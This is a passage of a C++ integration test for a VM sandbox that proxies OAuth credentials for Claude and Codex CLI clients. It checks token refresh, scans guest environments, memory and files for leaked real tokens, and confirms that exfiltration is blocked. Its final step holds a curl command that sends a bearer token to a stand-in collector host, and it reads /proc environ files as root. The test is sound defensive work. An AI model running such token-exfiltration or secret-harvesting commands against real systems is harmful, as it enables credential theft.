  const std::string claude_refresh0 = claude.refresh(), codex_refresh0 = codex.refresh();
  {
    std::lock_guard<std::mutex> l(mu);
    expired = {claude_access0, codex_access0};
    hold = std::make_unique<proxy::testing::Gate>();
  }
  // Two days pass in the guest (its clock; the proxy's leaf certificates last 30 days): Claude's
  // login is past its expiry.
  const size_t before = (*fake)->requests().size();
  Exec("date -s \"$(date -d @$(( $(date +%s) + 172800 )) '+%Y-%m-%d %H:%M:%S')\"", &code, "root");
  ASSERT_EQ(code, 0);
  Exec("(" + claude_cmd + " > /tmp/claude.out 2>&1; echo $? > /tmp/claude.rc) </dev/null "
       ">/dev/null 2>&1 & "
       "(" + codex_cmd + " > /tmp/codex.out 2>&1; echo $? > /tmp/codex.rc) </dev/null "
       ">/dev/null 2>&1 & true",
       &code, "dev", {claude_access_ph});
  ASSERT_EQ(code, 0);
  bool both_held = WaitFor(
      [&] {
        return answered_with("api.anthropic.com", "/v1/messages", claude.access()) > 0 &&
               claude.access() != claude_access0 &&
               answered_with("chatgpt.com", "/backend-api/codex/responses", codex.access()) > 0 &&
               codex.access() != codex_access0;
      },
      std::chrono::seconds(300));
  EXPECT_TRUE(both_held) << dump() << Exec("cat /tmp/claude.out /tmp/codex.out");
  EXPECT_EQ(claude.refreshes(), 1) << dump();
  EXPECT_EQ(codex.refreshes(), 1) << dump();
  EXPECT_FALSE(claude.revoked() || codex.revoked()) << "a refresh token was reused";
  EXPECT_NE(claude.refresh(), claude_refresh0);
  EXPECT_NE(codex.refresh(), codex_refresh0);
  // The fakes saw the real refresh tokens (they rotate only on the current one) and 401 first.
  size_t refresh_posts = 0, unauthorized = 0;
  const std::vector<SeenRequest> all = (*fake)->requests();
  for (size_t i = before; i < all.size(); ++i) {
    const SeenRequest& r = all[i];
    if (r.target.find("/oauth/token") != std::string::npos) {
      ++refresh_posts;
      EXPECT_EQ(r.body.find("CLOISTER"), std::string::npos) << "a placeholder reached the fake";
      EXPECT_TRUE(r.body.find(claude_refresh0) != std::string::npos ||
                  r.body.find(codex_refresh0) != std::string::npos)
          << r.body.substr(0, 200);
    }
    std::string a = r.Header("authorization");
    if (a == "Bearer " + claude_access0 || a == "Bearer " + codex_access0) ++unauthorized;
  }
  EXPECT_EQ(refresh_posts, 2u) << dump();
  EXPECT_GE(unauthorized, 1u) << "codex met the 401 first: " << dump();

  // 2. Scans. Needles: every token either fake issued, each JWT's signature, and the real
  //    tokens' markers (REALACCESS/REALREFRESH in Claude's, SECRETJTI/SECRETSESSION in the
  //    JWTs' payloads, found if any fragment of them is decoded).
  std::vector<std::string> real = {"REALACCESS", "REALREFRESH", "SECRETJTI", "SECRETSESSION"};
  for (FakeProvider* p : {&claude, &codex}) {
    for (const std::string& t : p->issued()) {
      real.push_back(t);
      std::string_view sig = vault::JwtSignature(t);
      if (!sig.empty()) real.emplace_back(sig);
    }
  }
  // (The JWT payloads' base64 of "SECRETJTI": not findable as text; their full tokens are.)
  auto has_real = [&](const std::string& bytes) {
    for (const auto& n : real) {
      if (bytes.find(n) != std::string::npos) return n.substr(0, 24);
    }
    return std::string();
  };

  // 2a. The environment of every guest process, the clients' memory, while they run.
  std::vector<std::string> claude_pids = Pids("claude"), codex_pids = Pids("codex");
  EXPECT_FALSE(claude_pids.empty()) << Exec("ps -eo pid,comm,args", nullptr, "root");
  EXPECT_FALSE(codex_pids.empty()) << Exec("ps -eo pid,comm,args", nullptr, "root");
  std::string environ = Exec("cat /proc/[0-9]*/environ 2>/dev/null | tr '\\000' '\\n'", &code,
                             "root");
  EXPECT_EQ(has_real(environ), "") << "a real token in a guest process's environment";
  EXPECT_NE(environ.find("OAUTHVM_MARK=" + claude_access_ph), std::string::npos)
      << "the environment scan reads the clients' environments";
  EXPECT_NE(environ.find("HTTPS_PROXY="), std::string::npos);
  std::vector<std::string> pids = claude_pids;
  pids.insert(pids.end(), codex_pids.begin(), codex_pids.end());
  std::vector<std::string> scan_args = {kPageReader};  // $0: the page reader; then the pids
  scan_args.insert(scan_args.end(), pids.begin(), pids.end());
  t0 = Clock::now();
  // In the background (an exec is bounded to 6 minutes; TCG reads slowly), polled, bounded.
  Exec("(sh -c \"$0\" \"$@\" > /tmp/scan.out 2>&1; echo $? > /tmp/scan.rc) </dev/null "
       ">/dev/null 2>&1 &",
       &code, "root", [&] {
         std::vector<std::string> a = {kMemScan};
         a.insert(a.end(), scan_args.begin(), scan_args.end());
         return a;
       }());
  EXPECT_TRUE(WaitFor([&] { return Exec("sleep 5; cat /tmp/scan.rc 2>/dev/null", nullptr,
                                        "root") == "0\n"; },
                      std::chrono::minutes(11)))
      << Exec("cat /tmp/scan.rc /tmp/pages.log", nullptr, "root");
  std::string mem = Exec("cat /tmp/scan.out", &code, "root");
  double mem_s = std::chrono::duration<double>(Clock::now() - t0).count();
  EXPECT_EQ(code, 0) << mem.substr(0, 2000);
  std::string summary;  // one "pid P regions R resident N bytes" line per process read whole
  size_t read_whole = 0;
  for (const auto& l : Split(mem, '\n')) {
    if (StartsWith(l, "pid ") && l.find(" resident ") != std::string::npos) {
      summary += l + "; ";
      ++read_whole;
    }
  }
  std::cerr << "[ figures ] memory scan of " << pids.size() << " processes: " << mem_s << " s, "
            << mem.size() << " bytes of runs back; " << summary << "\n";
  EXPECT_EQ(read_whole, pids.size()) << Exec("cat /tmp/pages.log", nullptr, "root");
  EXPECT_EQ(has_real(mem), "") << "a real token in a client's memory";
  EXPECT_NE(mem.find(claude_access_ph), std::string::npos)
      << "claude's memory holds its access placeholder (the scan can find)";
  EXPECT_NE(mem.find(codex_sig_ph), std::string::npos)
      << "codex's memory holds its access placeholder's signature (the scan can find)";

  // Released: both answers arrive, made with the refreshed real tokens.
  gate()->Open();
  EXPECT_TRUE(WaitFor([&] { return Exec("cat /tmp/claude.rc /tmp/codex.rc 2>/dev/null | wc -l") ==
                                   "2\n"; },
                      std::chrono::seconds(300)));
  out = Exec("cat /tmp/claude.rc /tmp/claude.out");
  EXPECT_TRUE(StartsWith(out, "0\n")) << out;
  EXPECT_NE(out.find(kClaudeAnswer), std::string::npos) << out;
  out = Exec("cat /tmp/codex.rc /tmp/codex.out");
  EXPECT_TRUE(StartsWith(out, "0\n")) << out;
  EXPECT_NE(out.find(kCodexAnswer), std::string::npos) << out;
  // The guest's files after the refresh: still placeholders (the same ones), no real token.
  std::string files = Exec("cat ~/.claude/.credentials.json ~/.codex/auth.json");
  EXPECT_EQ(has_real(files), "") << files;
  EXPECT_NE(files.find(claude_refresh_ph), std::string::npos) << files;
  EXPECT_NE(files.find(codex_refresh_ph), std::string::npos) << files;
  auto trace = Cloister({"trace", "ls", "ws"});
  EXPECT_NE(trace.out.find("oauth-refresh"), std::string::npos) << trace.out;

  // 2b. The workspace's files on the host, after a sync in the guest.
  Exec("sync", &code, "root");
  ASSERT_EQ(code, 0);
  std::vector<std::string> needles = real;
  needles.push_back(claude_access_ph);
  needles.push_back(codex_sig_ph);
  t0 = Clock::now();
  auto on_disk = ScanTree(root_ + "/workspaces/ws", needles);
  std::cerr << "[ figures ] host-side scan of the workspace's files for " << needles.size()
            << " needles: " << std::chrono::duration<double>(Clock::now() - t0).count() << " s\n";
  for (const auto& n : real) {
    EXPECT_EQ(on_disk.count(n), 0u) << "a real token (" << n.substr(0, 24) << ") in "
                                    << on_disk[n].begin()->first;
  }
  EXPECT_FALSE(on_disk[claude_access_ph].empty()) << "the host-side scan can find";
  EXPECT_FALSE(on_disk[codex_sig_ph].empty()) << "the host-side scan can find";

  // 3. The access placeholder toward another host: the detector refuses (451), the workspace is
  //    marked compromised and paused, nothing is forwarded. The pause may freeze the guest before
  //    curl's status comes back, so the proof is read on the host.
  const size_t forwarded = (*fake)->requests().size();
  {
    RunOptions o;
    o.timeout = std::chrono::seconds(120);
    o.env_set = env_;
    auto r = RunProcess({exe_, "--store", root_, "exec", "ws", "--", "sh", "-c",
                         "curl -sS --max-time 100 -o /dev/null -w '%{http_code}' -H "
                         "\"Authorization: Bearer $1\" https://elsewhere.example/collect",
                         "sh", claude_access_ph},
                        o);
    ASSERT_TRUE(r.ok());
    EXPECT_FALSE(r->timed_out);
    if (!r->timed_out && r->err.find("is paused") == std::string::npos) {
      EXPECT_EQ(r->out, "451") << r->err;
    }
  }
  auto flagged = [&] {
    auto c = store_->LoadConfig("ws");
    return c.ok() && c->compromised;
  };
  EXPECT_TRUE(WaitFor(flagged, std::chrono::seconds(60)));
  auto config = store_->LoadConfig("ws");
  ASSERT_TRUE(config.ok());
  EXPECT_NE(config->compromised_reason.find("elsewhere.example"), std::string::npos)
      << config->compromised_reason;
  RunPaths paths = RunPathsFor(*store_, "ws");
  EXPECT_TRUE(WaitFor([&] { return Slurp(paths.supervisor_log).find("pausing the VM") !=
                                   std::string::npos; },
                      std::chrono::seconds(60)));
  EXPECT_EQ((*fake)->requests().size(), forwarded) << "nothing of it was forwarded: " << dump();
}

}  // namespace
}  // namespace cloister::vm
